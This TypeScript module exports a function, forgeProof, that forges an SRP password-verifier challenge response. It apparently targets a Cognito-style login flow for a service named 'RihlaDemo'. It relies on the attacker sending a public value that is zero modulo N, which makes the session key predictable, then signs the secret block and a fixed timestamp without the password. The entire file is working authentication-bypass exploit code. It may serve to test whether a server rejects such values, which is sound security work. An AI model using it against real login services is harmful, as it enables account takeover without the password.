import { createHash, createHmac } from 'node:crypto'

/** Creates the proof of an attacker who does not know the password but sent a public value that is zero modulo `N`. */
export function forgeProof(parameters: Record<string, string>, publicValue: string) {
  const toBytes = (hex: string) => {
    const even = hex.length % 2 ? `0${hex}` : hex
    return Buffer.from(/^[89a-f]/i.test(even) ? `00${even}` : even, 'hex')
  }
  const hash = createHash('sha256')
    .update(toBytes(BigInt(`0x${publicValue}`).toString(16)))
    .update(toBytes(parameters['SRP_B'] ?? ''))
    .digest('hex')
  const salt = toBytes(BigInt(`0x${hash}`).toString(16))
  const extracted = createHmac('sha256', salt)
    .update(Buffer.from([0]))
    .digest()
  const key = createHmac('sha256', extracted).update('Caldera Derived Key\u0001').digest().subarray(0, 16)
  const user = parameters['USER_ID_FOR_SRP'] ?? ''
  const block = parameters['SECRET_BLOCK'] ?? ''
  const TIMESTAMP = 'Sat Nov 21 09:00:00 UTC 2026'
  const signature = createHmac('sha256', key)
    .update(`RihlaDemo${user}`)
    .update(Buffer.from(block, 'base64'))
    .update(TIMESTAMP)
    .digest('base64')
  return {
    ChallengeName: 'PASSWORD_VERIFIER',
    ChallengeResponses: {
      USERNAME: user,
      PASSWORD_CLAIM_SECRET_BLOCK: block,
      PASSWORD_CLAIM_SIGNATURE: signature,
      TIMESTAMP,
    },
  }
}
